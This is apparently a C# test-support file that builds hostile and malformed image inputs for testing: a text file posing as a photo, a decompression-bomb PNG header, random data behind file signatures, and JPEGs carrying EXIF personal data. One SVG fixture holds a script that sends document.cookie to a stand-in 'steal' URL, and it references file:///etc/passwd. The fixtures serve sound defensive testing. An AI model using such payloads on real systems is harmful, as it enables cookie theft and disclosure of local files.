using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace AbParts.Tests.Support;

/// <summary>Small byte-level builders for inputs no tool should have to make: hostile files and EXIF blocks.</summary>
public static class ImageBytes
{
    public static byte[] Text { get; } =
        Encoding.UTF8.GetBytes("Meeting notes, not a photo. Someone renamed this text file to photo.jpg.\n");

    public static byte[] Svg { get; } = Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\">" +
        "<rect width=\"64\" height=\"64\" fill=\"red\"/></svg>\n");

    /// <summary>An SVG that would run a script and fetch a remote resource if anything rendered it.</summary>
    public static byte[] SvgWithScript { get; } = Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"64\" height=\"64\">" +
        "<script type=\"text/javascript\">fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script>" +
        "<image xlink:href=\"file:///etc/passwd\" width=\"64\" height=\"64\"/><rect width=\"64\" height=\"64\" fill=\"red\"/></svg>\n");

    public static byte[] PdfHeader { get; } = Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" +
        "trailer\n<< /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A binary PPM (P6) of flat grey.</summary>
    public static byte[] Ppm(int width, int height) =>
        [.. Encoding.ASCII.GetBytes($"P6\n{width} {height}\n255\n"), .. Enumerable.Repeat((byte)128, width * height * 3)];

    /// <summary>An uncompressed 24-bit Windows BMP of flat blue.</summary>
    public static byte[] Bmp(int width, int height)
    {
        var stride = ((width * 3) + 3) & ~3;
        var bytes = new byte[54 + (stride * height)];
        "BM"u8.CopyTo(bytes);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(2), bytes.Length);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(10), 54);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(14), 40);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(18), width);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(22), height);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(26), 1);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(28), 24);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(34), stride * height);
        for (var i = 54; i < bytes.Length; i += 3)
        {
            bytes[i] = 255; // blue (the padding bytes get some too; harmless)
        }

        return bytes;
    }

    /// <summary>
    /// A valid PNG signature and IHDR declaring <paramref name="width"/> x <paramref name="height"/> RGB pixels,
    /// then a tiny IDAT: a decompression bomb's header on a few hundred bytes.
    /// </summary>
    public static byte[] PngDeclaring(int width, int height)
    {
        using var png = new MemoryStream();
        png.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0d, 0x0a, 0x1a, 0x0a]);
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        header[8] = 8; // bit depth
        header[9] = 2; // colour type: RGB
        WriteChunk(png, "IHDR", header);

        using var deflated = new MemoryStream();
        using (var zlib = new ZLibStream(deflated, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            zlib.Write(new byte[1024]); // the first few rows of black
        }

        WriteChunk(png, "IDAT", deflated.ToArray());
        WriteChunk(png, "IEND", []);
        return png.ToArray();
    }

    /// <summary><paramref name="magic"/> followed by random bytes (seeded, so the file is the same every run).</summary>
    public static byte[] GarbageAfter(byte[] magic, int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        magic.CopyTo(bytes, 0);
        return bytes;
    }

    /// <summary>
    /// The JPEG with an EXIF APP1 segment inserted after SOI: IFD0 with Orientation and, when given, Artist
    /// (the kind of personal data stripping must remove).
    /// </summary>
    public static byte[] WithExif(byte[] jpeg, ushort orientation, string? artist = null)
    {
        if (jpeg.Length < 2 || jpeg[0] != 0xff || jpeg[1] != 0xd8)
        {
            throw new ArgumentException("Not a JPEG.", nameof(jpeg));
        }

        var artistBytes = artist is null ? [] : Encoding.ASCII.GetBytes(artist + "\0");
        var entries = artist is null ? 1 : 2;
        var ifdLength = 2 + (entries * 12) + 4;
        var tiff = new byte[8 + ifdLength + artistBytes.Length];
        "II"u8.CopyTo(tiff);
        BinaryPrimitives.WriteUInt16LittleEndian(tiff.AsSpan(2), 42);
        BinaryPrimitives.WriteUInt32LittleEndian(tiff.AsSpan(4), 8);
        BinaryPrimitives.WriteUInt16LittleEndian(tiff.AsSpan(8), (ushort)entries);
        WriteEntry(tiff.AsSpan(10), tag: 0x0112, type: 3, count: 1, value: orientation); // Orientation, SHORT
        if (artist is not null)
        {
            WriteEntry(tiff.AsSpan(22), tag: 0x013b, type: 2, count: (uint)artistBytes.Length, value: (uint)(8 + ifdLength)); // Artist, ASCII
            artistBytes.CopyTo(tiff, 8 + ifdLength);
        }

        byte[] payload = [.. "Exif\0\0"u8, .. tiff];
        var segment = new byte[4 + payload.Length];
        segment[0] = 0xff;
        segment[1] = 0xe1;
        BinaryPrimitives.WriteUInt16BigEndian(segment.AsSpan(2), (ushort)(2 + payload.Length));
        payload.CopyTo(segment, 4);
        return [.. jpeg.AsSpan(0, 2), .. segment, .. jpeg.AsSpan(2)];
    }

    private static void WriteEntry(Span<byte> entry, ushort tag, ushort type, uint count, uint value)
    {
        BinaryPrimitives.WriteUInt16LittleEndian(entry, tag);
        BinaryPrimitives.WriteUInt16LittleEndian(entry[2..], type);
        BinaryPrimitives.WriteUInt32LittleEndian(entry[4..], count);
        if (type == 3)
        {
            BinaryPrimitives.WriteUInt16LittleEndian(entry[8..], (ushort)value);
        }
        else
        {
            BinaryPrimitives.WriteUInt32LittleEndian(entry[8..], value);
        }
    }

    private static void WriteChunk(Stream png, string type, byte[] data)
    {
        var length = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
        png.Write(length);
        byte[] typed = [.. Encoding.ASCII.GetBytes(type), .. data];
        png.Write(typed);
        var crc = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(crc, Crc32(typed));
        png.Write(crc);
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xffffffffu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? 0xedb88320u ^ (crc >> 1) : crc >> 1;
            }
        }

        return ~crc;
    }
}
